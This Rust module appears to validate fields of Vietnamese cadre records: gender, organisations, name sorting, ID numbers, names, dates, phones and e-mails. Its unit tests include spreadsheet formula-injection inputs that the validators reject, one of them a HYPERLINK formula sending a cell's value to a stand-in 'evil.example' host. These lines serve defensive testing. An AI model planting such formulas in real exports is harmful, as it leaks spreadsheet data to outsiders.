//! Pure cadre field rules: genders and organisations (as files write them, and their
//! Vietnamese names), the Vietnamese sort key, the checks of each field.

use chrono::NaiveDate;
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use crate::error::AppError;
use crate::shared::text::fold;

/// Gender as recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum Gender {
    /// Nữ.
    Female,
    /// Nam.
    Male,
    /// Khác.
    Other,
}

crate::text_enum!(Gender);

impl Gender {
    /// Stored name.
    pub fn as_str(self) -> &'static str {
        match self {
            Gender::Female => "female",
            Gender::Male => "male",
            Gender::Other => "other",
        }
    }

    /// Parses a stored name.
    pub fn parse(s: &str) -> Option<Gender> {
        [Gender::Female, Gender::Male, Gender::Other]
            .into_iter()
            .find(|g| g.as_str() == s)
    }
}

/// A gender as a file may write it: Vietnamese or English, any case, diacritics optional
/// (`Nữ`, `nu`, `female`, `F`; `Nam`, `male`, `M`; `Khác`, `other`).
pub fn gender_from_text(s: &str) -> Option<Gender> {
    match fold(s).as_str() {
        "nu" | "female" | "f" => Some(Gender::Female),
        "nam" | "male" | "m" => Some(Gender::Male),
        "khac" | "other" => Some(Gender::Other),
        _ => None,
    }
}

/// The Vietnamese name of a stored gender (what exports write).
pub fn gender_vi(g: &str) -> &'static str {
    match g {
        "female" => "Nữ",
        "male" => "Nam",
        _ => "Khác",
    }
}

pub use crate::standards::domain::Organisation;

/// The Vietnamese name of an organisation (what exports write).
pub fn organisation_vi(o: Organisation) -> &'static str {
    match o {
        Organisation::FatherlandFront => "Mặt trận Tổ quốc",
        Organisation::YouthUnion => "Đoàn Thanh niên",
        Organisation::WomensUnion => "Hội Liên hiệp Phụ nữ",
        Organisation::FarmersAssociation => "Hội Nông dân",
        Organisation::VeteransAssociation => "Hội Cựu chiến binh",
        Organisation::LabourFederation => "Liên đoàn Lao động",
        Organisation::MassMobilisationCommission => "Ban Dân vận",
        Organisation::Government => "Chính quyền",
        Organisation::ArmedForces => "Lực lượng vũ trang",
    }
}

/// An organisation as a file may write it: its code, or its Vietnamese name or code in any
/// case, diacritics optional.
pub fn organisation_from_text(s: &str) -> Option<Organisation> {
    let f = fold(s);
    Organisation::ALL
        .into_iter()
        .find(|o| o.as_str() == s.trim() || fold(organisation_vi(*o)) == f || fold(o.as_str()) == f)
}

/// Whether an ethnicity is an ethnic minority when the record does not say: every one but Kinh.
pub fn default_minority(ethnicity: &str) -> bool {
    fold(ethnicity) != "kinh"
}

/// Vietnamese letters in dictionary order (with the Latin letters Vietnamese lacks in their places).
const ALPHABET: &str = "aăâbcdđeêfghijklmnoôơpqrstuưvwxyz";

/// Each vowel with its tones, in the order ngang, huyền, hỏi, ngã, sắc, nặng.
const TONED: [&str; 12] = [
    "aàảãáạ",
    "ăằẳẵắặ",
    "âầẩẫấậ",
    "eèẻẽéẹ",
    "êềểễếệ",
    "iìỉĩíị",
    "oòỏõóọ",
    "ôồổỗốộ",
    "ơờởỡớợ",
    "uùủũúụ",
    "ưừửữứự",
    "yỳỷỹýỵ",
];

/// The base letter and tone (0–5) of a lower-case character.
fn letter_and_tone(c: char) -> (char, u8) {
    for row in TONED {
        if let Some(pos) = row.chars().position(|t| t == c) {
            return (row.chars().next().unwrap_or(c), pos as u8);
        }
    }
    (c, 0)
}

/// A key that sorts names the Vietnamese way: by given name (the last word), then the family
/// and middle names, letter by letter in Vietnamese order (a ă â b c d đ e ê …), tones only
/// breaking ties. Compare keys bytewise.
pub fn sort_key(full_name: &str) -> String {
    let words: Vec<String> = full_name
        .split_whitespace()
        .map(|w| w.to_lowercase())
        .collect();
    let mut ordered: Vec<&String> = Vec::with_capacity(words.len());
    if let Some((last, rest)) = words.split_last() {
        ordered.push(last);
        ordered.extend(rest);
    }
    let mut primary = String::new();
    let mut tones = String::new();
    for (i, w) in ordered.iter().enumerate() {
        if i > 0 {
            primary.push(' ');
        }
        for c in w.chars() {
            let (base, tone) = letter_and_tone(c);
            match ALPHABET.chars().position(|a| a == base) {
                // 'A' + rank keeps every letter above the space between words.
                Some(rank) => primary.push(char::from(b'A' + rank as u8)),
                None => {
                    // Digits and other marks sort after the letters, by code point.
                    primary.push('~');
                    primary.push(base);
                }
            }
            tones.push(char::from(b'0' + tone));
        }
    }
    format!("{primary}\u{1}{tones}")
}

/// A personal id number (CMND: 9 digits, CCCD: 12), checked: only [`parse_personal_id`] makes
/// one, so a write that holds one holds a valid number.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct PersonalId(String);

impl PersonalId {
    /// An id as stored on a record (checked when it was written), kept by an edit that does not
    /// change it.
    pub fn stored(s: &str) -> PersonalId {
        PersonalId(s.to_string())
    }

    /// The digits.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for PersonalId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl PartialEq<str> for PersonalId {
    fn eq(&self, other: &str) -> bool {
        self.0 == other
    }
}

impl PartialEq<&str> for PersonalId {
    fn eq(&self, other: &&str) -> bool {
        self.0 == *other
    }
}

/// Checks a personal id number (CMND 9 digits or CCCD 12 digits).
pub fn parse_personal_id(raw: &str) -> Result<PersonalId, AppError> {
    let s: String = raw.chars().filter(|c| !c.is_whitespace()).collect();
    if (s.len() == 9 || s.len() == 12) && s.bytes().all(|b| b.is_ascii_digit()) {
        Ok(PersonalId(s))
    } else {
        Err(AppError::invalid(
            "personal_id",
            crate::msg!(PersonalIdInvalid),
        ))
    }
}

/// A letter of the Latin script (with its diacritics, composed): the letters Vietnamese names and
/// words are written in. (A Hangul filler is a "letter" to Unicode, and shows nothing.)
fn is_latin_letter(c: char) -> bool {
    c.is_alphabetic()
        && (c.is_ascii_alphabetic() || matches!(c as u32, 0x00C0..=0x024F | 0x1E00..=0x1EFF))
}

pub use crate::shared::text::composed_words;

/// Checks a full name: 2–120 characters, Latin letters (composed), spaces, `'` and `-`, each word
/// beginning and ending with a letter (`H'Hen`, not `--` or `'' --`).
pub fn parse_full_name(raw: &str) -> Result<String, AppError> {
    let s = composed_words(raw);
    let n = s.chars().count();
    if !(2..=120).contains(&n) || raw.chars().count() > 120 {
        return Err(AppError::invalid("full_name", crate::msg!(FullNameLength)));
    }
    let lettered = |w: &str| {
        w.chars().next().is_some_and(is_latin_letter)
            && w.chars().last().is_some_and(is_latin_letter)
    };
    if !s
        .chars()
        .all(|c| is_latin_letter(c) || c == ' ' || c == '\'' || c == '-')
        || !s.split(' ').all(lettered)
    {
        return Err(AppError::invalid(
            "full_name",
            crate::msg!(FullNameCharacters),
        ));
    }
    Ok(s)
}

/// Checks a birth date: between 1900-01-01 and 15 years before `today`.
pub fn check_birth_date(d: NaiveDate, today: NaiveDate) -> Result<(), AppError> {
    let min = NaiveDate::from_ymd_opt(1900, 1, 1).unwrap_or(d);
    let max = today - chrono::Duration::days(15 * 365);
    if d < min || d > max {
        return Err(AppError::invalid("birth_date", crate::msg!(BirthDateRange)));
    }
    Ok(())
}

/// Checks the Party-joining date: after birth and not in the future.
pub fn check_party_date(
    joined: NaiveDate,
    birth: NaiveDate,
    today: NaiveDate,
) -> Result<(), AppError> {
    if joined <= birth || joined > today {
        return Err(AppError::invalid(
            "party_joined_on",
            crate::msg!(PartyDateRange),
        ));
    }
    Ok(())
}

/// Checks an optional phone number: 8–15 digits, at most 20 characters, written as numbers are:
/// a `+` only in front, and groups of digits apart by one space, `-` or `.` (not `+-+0903…`).
pub fn parse_phone(raw: Option<&str>) -> Result<Option<String>, AppError> {
    let Some(s) = raw.map(str::trim).filter(|s| !s.is_empty()) else {
        return Ok(None);
    };
    let digits = s.chars().filter(char::is_ascii_digit).count();
    let body = s.strip_prefix('+').unwrap_or(s);
    let grouped = body
        .split([' ', '-', '.'])
        .all(|g| !g.is_empty() && g.chars().all(|c| c.is_ascii_digit()));
    if (8..=15).contains(&digits) && s.len() <= 20 && grouped {
        Ok(Some(s.to_string()))
    } else {
        Err(AppError::invalid("phone", crate::msg!(PhoneInvalid)))
    }
}

/// Checks an optional e-mail address: `local@domain.tld` with the characters addresses use in
/// practice (local part: letters, digits, `.`, `_`, `%`, `+`, `-`, beginning with a letter or
/// digit; domain: dot-separated labels of letters, digits and inner `-`, the last one letters).
pub fn parse_email(raw: Option<&str>) -> Result<Option<String>, AppError> {
    let Some(s) = raw.map(str::trim).filter(|s| !s.is_empty()) else {
        return Ok(None);
    };
    let label = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    let ok = s.len() <= 200
        && s.split_once('@').is_some_and(|(local, domain)| {
            let labels: Vec<&str> = domain.split('.').collect();
            local.len() <= 64
                && local
                    .bytes()
                    .next()
                    .is_some_and(|b| b.is_ascii_alphanumeric())
                && local
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._%+-".contains(&b))
                && !local.contains("..")
                && !local.ends_with('.')
                && labels.len() >= 2
                && labels.iter().all(|l| label(l))
                && labels
                    .last()
                    .is_some_and(|t| t.len() >= 2 && t.bytes().all(|b| b.is_ascii_alphabetic()))
        });
    if ok {
        Ok(Some(s.to_lowercase()))
    } else {
        Err(AppError::invalid("email", crate::msg!(EmailInvalid)))
    }
}

/// Checks a required word-like text (ethnicity, religion): 1–`max` characters, letters, spaces,
/// `'` and `-`, beginning with a letter. (`Kinh`, `Ê Đê`, `Phật giáo`.)
pub fn parse_words(field: &str, raw: &str, max: usize) -> Result<String, AppError> {
    let s = composed_words(raw);
    let n = s.chars().count();
    if n == 0 || n > max || raw.chars().count() > max {
        return Err(AppError::invalid(
            field,
            crate::msg!(TextLength, field = field, max = max),
        ));
    }
    if !s.starts_with(is_latin_letter)
        || !s
            .chars()
            .all(|c| is_latin_letter(c) || c == ' ' || c == '\'' || c == '-')
    {
        return Err(AppError::invalid(
            field,
            crate::msg!(TextCharacters, field = field),
        ));
    }
    Ok(s)
}

/// Checks a from/to period: `to`, when given, is on or after `from`.
pub fn check_period(from: NaiveDate, to: Option<NaiveDate>) -> Result<(), AppError> {
    if to.is_some_and(|t| t < from) {
        return Err(AppError::invalid("to_date", crate::msg!(EndBeforeStart)));
    }
    Ok(())
}

/// A name folded for search: lower-case, no diacritics (`Nguyễn Văn An` → `nguyen van an`).
pub fn fold_name(s: &str) -> String {
    fold(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sorted(names: &[&str]) -> Vec<String> {
        let mut v: Vec<&str> = names.to_vec();
        v.sort_by_key(|n| sort_key(n));
        v.into_iter().map(String::from).collect()
    }

    #[test]
    fn sorts_by_given_name_then_family() {
        assert_eq!(
            sorted(&["Trần Văn Bình", "Nguyễn Thị An", "Lê Văn An"]),
            ["Lê Văn An", "Nguyễn Thị An", "Trần Văn Bình"]
        );
    }

    #[test]
    fn vietnamese_letter_order() {
        // a < ă < â < b; d < đ < e; o < ô < ơ < p; u < ư < v
        assert_eq!(sorted(&["Bá", "Ân", "Ăn", "An"]), ["An", "Ăn", "Ân", "Bá"]);
        assert_eq!(sorted(&["Em", "Đào", "Dung"]), ["Dung", "Đào", "Em"]);
        assert_eq!(
            sorted(&["Phúc", "Ơn", "Ông", "Oanh"]),
            ["Oanh", "Ông", "Ơn", "Phúc"]
        );
        assert_eq!(sorted(&["Vân", "Ưng", "Uyên"]), ["Uyên", "Ưng", "Vân"]);
    }

    #[test]
    fn tones_only_break_ties_and_short_words_come_first() {
        assert_eq!(
            sorted(&["Anh", "Ánh", "An", "Ảnh"]),
            ["An", "Anh", "Ảnh", "Ánh"]
        );
        assert_eq!(
            sorted(&["Nguyễn Lan", "Lan Anh"]),
            ["Lan Anh", "Nguyễn Lan"]
        );
    }

    #[test]
    fn field_checks() {
        assert_eq!(
            parse_personal_id("079 123 456 789").unwrap(),
            "079123456789"
        );
        assert!(parse_personal_id("12345").is_err());
        assert!(parse_full_name("Nguyễn Văn 3").is_err());
        assert_eq!(
            parse_full_name("  Nguyễn   Văn An ").unwrap(),
            "Nguyễn Văn An"
        );
        // Combining marks compose; fillers and other scripts are not the letters of a name.
        assert_eq!(
            parse_full_name("Nguye\u{302}\u{303}n Thi\u{323} H'Hen").unwrap(),
            "Nguyễn Thị H'Hen"
        );
        for bad in ["\u{3164}\u{3164}", "Trần Văn \u{3164}", "Иван Петров"] {
            assert!(parse_full_name(bad).is_err(), "{bad:?}");
        }
        assert_eq!(
            parse_words("religion", "Pha\u{323}\u{302}t gia\u{301}o", 50).unwrap(),
            "Phật giáo"
        );
        assert!(parse_email(Some("a@b")).is_err());
        for bad in [
            "=HYPERLINK(\"http://evil.example\")@a.vn",
            "=1+1@a.vn",
            "+cmd@a.vn",
            "a b@c.vn",
            "a@b..vn",
            "a@-b.vn",
            "a@b.v1",
            "a@b@c.vn",
            "a..b@c.vn",
            "\"q\"@c.vn",
        ] {
            assert!(parse_email(Some(bad)).is_err(), "{bad}");
        }
        for good in ["an.nguyen+hoc@mttq.hochiminhcity.gov.vn", "x_1-y%z@a-b.vn"] {
            assert!(parse_email(Some(good)).is_ok(), "{good}");
        }
        assert_eq!(parse_words("ethnicity", " Ê   Đê ", 50).unwrap(), "Ê Đê");
        assert_eq!(
            parse_words("religion", "Phật giáo", 50).unwrap(),
            "Phật giáo"
        );
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Kinh\")",
            "-Kinh",
            "Kinh;=1",
            "",
            "K1nh",
        ] {
            let e = parse_words("ethnicity", bad, 50).unwrap_err();
            assert!(e.to_string().contains("ethnicity"), "{bad}: {e}");
        }
        assert_eq!(
            parse_email(Some("A@B.vn")).unwrap().as_deref(),
            Some("a@b.vn")
        );
        assert!(parse_phone(Some("0909 123 456")).is_ok());
        assert!(parse_phone(Some("call me")).is_err());
        for ok in [
            "+84 903 123 456",
            "0903-123-456",
            "028.3822.1234",
            "0903123456",
        ] {
            assert!(parse_phone(Some(ok)).is_ok(), "{ok}");
        }
        for odd in [
            "+-+0903123456",
            "--------12345678",
            "-0903123456",
            "0903  123456",
            "0903123456-",
            "84+903123456",
        ] {
            assert!(parse_phone(Some(odd)).is_err(), "{odd}");
        }
    }
}
